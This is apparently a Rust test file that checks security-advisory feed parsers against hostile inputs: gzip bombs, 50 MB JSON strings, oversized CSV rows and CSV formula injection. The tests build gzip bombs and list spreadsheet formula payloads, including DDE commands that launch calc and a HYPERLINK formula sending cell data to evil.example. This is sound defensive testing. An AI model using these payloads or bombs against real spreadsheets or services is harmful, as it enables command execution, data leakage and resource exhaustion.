// Memory: measured in a child process (the test binary run again for one
// test), so that other tests running in parallel do not count.

const CHILD: &str = "MAMORI_HOSTILE_CHILD";

/// Peak resident set of this process, in kB.
fn peak_rss_kb() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

/// In the parent, runs `test` alone in a child process and returns the
/// child's peak RSS in MB and its output; in the child, runs `body`, prints
/// the peak and returns `None`.
fn in_child(test: &str, body: impl FnOnce()) -> Option<(u64, String)> {
    if std::env::var_os(CHILD).is_some() {
        body();
        println!("PEAK_RSS_KB={}", peak_rss_kb());
        return None;
    }
    if !std::path::Path::new("/proc/self/status").exists() {
        // Not Linux: run in process, no measurement.
        body();
        return None;
    }
    let output = Command::new(std::env::current_exe().unwrap())
        .args([test, "--exact", "--nocapture", "--test-threads=1"])
        .env(CHILD, "1")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        output.status.success(),
        "{test} in a child: {stdout}\n{stderr}"
    );
    let kb: u64 = stdout
        .split("PEAK_RSS_KB=")
        .nth(1)
        .and_then(|rest| rest.split(|c: char| !c.is_ascii_digit()).next())
        .and_then(|digits| digits.parse().ok())
        .unwrap_or_else(|| panic!("{test}: the child ran no test: {stdout}"));
    println!("{test}: peak RSS {} MB in a child process", kb / 1024);
    Some((kb / 1024, stdout))
}

/// Gzip members of `chunk` repeated to `total` bytes inflated, after a
/// member holding `prefix`: a gzip bomb built without compressing it all.
fn gzip_bomb(prefix: &[u8], chunk_byte: u8, total: usize) -> Vec<u8> {
    const CHUNK: usize = 16 * 1024 * 1024;
    let mut head = GzEncoder::new(Vec::new(), Compression::best());
    head.write_all(prefix).unwrap();
    let mut bomb = head.finish().unwrap();
    let mut member = GzEncoder::new(Vec::new(), Compression::best());
    member.write_all(&vec![chunk_byte; CHUNK]).unwrap();
    let member = member.finish().unwrap();
    for _ in 0..total / CHUNK {
        bomb.extend_from_slice(&member);
    }
    bomb
}

const GIB: usize = 1024 * 1024 * 1024;
const RSS_LIMIT_MB: u64 = 300;

#[test]
fn nvd_gzip_bomb_of_zeros_is_rejected_in_bounded_memory() {
    let measured = in_child(
        "nvd_gzip_bomb_of_zeros_is_rejected_in_bounded_memory",
        || {
            let bomb = gzip_bomb(b"", 0, GIB);
            assert!(bomb.len() < 2 * 1024 * 1024, "{}", bomb.len());
            let started = Instant::now();
            for outcome in [parse_nvd(&bomb, LOC), parse_nvd_gz(&bomb, LOC)] {
                assert!(outcome.advisories.is_empty());
                assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
                check_rejection("nvd", &outcome.rejected[0]);
            }
            assert!(started.elapsed() < TIME_BOUND);
        },
    );
    if let Some((mb, _)) = measured {
        assert!(mb < RSS_LIMIT_MB, "peak RSS {mb} MB");
    }
}

#[test]
fn nvd_gzip_bomb_of_whitespace_is_streamed_in_bounded_memory() {
    // Valid JSON all along: a page whose array is 1 GB of blanks.
    let measured = in_child(
        "nvd_gzip_bomb_of_whitespace_is_streamed_in_bounded_memory",
        || {
            let mut bomb = gzip_bomb(b"{\"vulnerabilities\":[", b' ', GIB);
            let mut tail = GzEncoder::new(Vec::new(), Compression::best());
            tail.write_all(b"]}").unwrap();
            bomb.extend(tail.finish().unwrap());
            let mut records = 0;
            let mut rejected = Vec::new();
            read_nvd(&bomb[..], LOC, &mut |r| match r {
                Ok(_) => records += 1,
                Err(e) => rejected.push(e),
            });
            assert_eq!(records, 0);
            for r in &rejected {
                check_rejection("nvd", r);
            }
        },
    );
    if let Some((mb, _)) = measured {
        assert!(mb < RSS_LIMIT_MB, "peak RSS {mb} MB");
    }
}

#[test]
fn nvd_gzip_bomb_inside_one_record_is_rejected_in_bounded_memory() {
    // One record whose description is 1 GB of "A": a streaming reader still
    // holds a record whole, so the record must have a size limit.
    let measured = in_child(
        "nvd_gzip_bomb_inside_one_record_is_rejected_in_bounded_memory",
        || {
            let good = br#"{"vulnerabilities":[{"cve":{"id":"CVE-2024-0001","descriptions":[{"lang":"en","value":"fine"}]}},{"cve":{"id":"CVE-2024-0002","descriptions":[{"lang":"en","value":""#;
            let bomb = gzip_bomb(good, b'A', GIB);
            let started = Instant::now();
            let outcome = parse_nvd(&bomb, LOC);
            assert!(started.elapsed() < Duration::from_secs(60));
            assert_eq!(ids(&outcome), ["CVE-2024-0001"]);
            assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
            check_rejection("nvd", &outcome.rejected[0]);
            let reason = &outcome.rejected[0].reason;
            assert!(reason.contains("MB"), "{reason}");
            assert!(reason.len() < 1024, "the reason repeats the input");
        },
    );
    if let Some((mb, _)) = measured {
        assert!(mb < RSS_LIMIT_MB, "peak RSS {mb} MB");
    }
}

#[test]
fn a_50_mb_json_string_is_handled_in_bounded_memory_and_time() {
    let measured = in_child(
        "a_50_mb_json_string_is_handled_in_bounded_memory_and_time",
        || {
            // One document at a time: the input itself is 50 MB.
            let big = || "A".repeat(50 * 1024 * 1024);
            type Document = fn(String) -> String;
            let documents: [(&str, Parser, Document); 4] = [
                ("nvd", parse_nvd, |big| {
                    format!(
                        r#"{{"vulnerabilities":[{{"cve":{{"id":"CVE-2024-0001","descriptions":[{{"lang":"en","value":"{big}"}}]}}}}]}}"#
                    )
                }),
                ("cve5", parse_cve5, |big| {
                    format!(
                        r#"{{"cveMetadata":{{"cveId":"CVE-2024-0001"}},"containers":{{"cna":{{"descriptions":[{{"lang":"en","value":"{big}"}}]}}}}}}"#
                    )
                }),
                ("csaf", parse_csaf, |big| {
                    format!(r#"{{"document":{{"title":"{big}"}}}}"#)
                }),
                ("kev", parse_kev, |big| {
                    format!(
                        r#"{{"vulnerabilities":[{{"cveID":"CVE-2024-0001","shortDescription":"{big}"}}]}}"#
                    )
                }),
            ];
            for (name, parser, document) in documents {
                let text = document(big());
                let started = Instant::now();
                let outcome = parser(text.as_bytes(), LOC);
                assert!(started.elapsed() < Duration::from_secs(30), "{name}");
                for r in &outcome.rejected {
                    check_rejection(name, r);
                    assert!(
                        r.reason.len() < 4096,
                        "{name}: the reason repeats the input"
                    );
                }
                assert!(
                    outcome.advisories.len() + outcome.rejected.len() >= 1,
                    "{name}"
                );
            }
        },
    );
    if let Some((mb, _)) = measured {
        // The input (50 MB, four times over at most one at a time) and one
        // copy of it as a parsed string.
        assert!(mb < RSS_LIMIT_MB, "peak RSS {mb} MB");
    }
}

#[test]
fn kev_csv_formulas_are_kept_as_text() {
    let formulas = [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "\t=1+1",
    ];
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record([
            "cveID",
            "vendorProject",
            "product",
            "vulnerabilityName",
            "dateAdded",
            "shortDescription",
            "requiredAction",
            "dueDate",
            "knownRansomwareCampaignUse",
            "notes",
        ])
        .unwrap();
    for (i, f) in formulas.iter().enumerate() {
        writer
            .write_record([
                &format!("CVE-2024-{:04}", i + 1),
                *f,
                *f,
                *f,
                "2024-01-01",
                *f,
                *f,
                "2024-01-22",
                "Unknown",
                *f,
            ])
            .unwrap();
    }
    // A formula where the CVE id goes is no CVE id.
    writer
        .write_record(["=cmd|' /C calc'!A0", "v", "p", "", "", "", "", "", "", ""])
        .unwrap();
    let bytes = writer.into_inner().unwrap();
    let outcome = run("kev.csv", parse_kev_csv, &bytes);
    assert_eq!(outcome.advisories.len(), formulas.len());
    assert_eq!(outcome.rejected.len(), 1, "{:?}", outcome.rejected);
    assert!(outcome.rejected[0].location.contains("line 8"));
    let by_id = |id: &str| -> &Advisory { outcome.advisories.iter().find(|a| a.id == id).unwrap() };
    for (i, f) in formulas.iter().enumerate() {
        let a = by_id(&format!("CVE-2024-{:04}", i + 1));
        let f = f.trim();
        assert_eq!(a.title, f);
        assert_eq!(a.description, f);
        assert_eq!(a.products[0].vendor, f);
        assert_eq!(a.products[0].product, f);
        assert_eq!(a.kev.as_ref().unwrap().required_action, f);
    }
}

#[test]
fn kev_csv_with_huge_and_broken_rows_is_bounded() {
    // One row of 1,000,000 fields, a field of 10 MB, an unterminated quote.
    let mut text = String::from("cveID,vendorProject,product\n");
    text.push_str("CVE-2024-0001,v,p\n");
    text.push_str("CVE-2024-0002");
    text.push_str(&",x".repeat(1_000_000));
    text.push('\n');
    text.push_str("CVE-2024-0003,");
    text.push_str(&"y".repeat(10 * 1024 * 1024));
    text.push_str(",p\n");
    text.push_str("CVE-2024-0004,\"unterminated,p\n");
    let outcome = run("kev.csv", parse_kev_csv, text.as_bytes());
    let got = ids(&outcome);
    assert!(got.starts_with(&["CVE-2024-0001", "CVE-2024-0002", "CVE-2024-0003"]));
}

/// Longer runs:
///
/// ```text
/// PROPTEST_CASES=20000 cargo test --release -p mamori-advisories --test hostile_inputs
/// ```
///
/// runs every property above 20,000 times (`PROPTEST_CASES=100000` for an
/// overnight run). A failure prints the minimal input, and proptest keeps
/// its seed in `tests/<test>.proptest-regressions` so the next run tries it
/// first.
#[allow(dead_code)]
const LONGER_RUNS: &str =
    "PROPTEST_CASES=20000 cargo test --release -p mamori-advisories --test hostile_inputs";
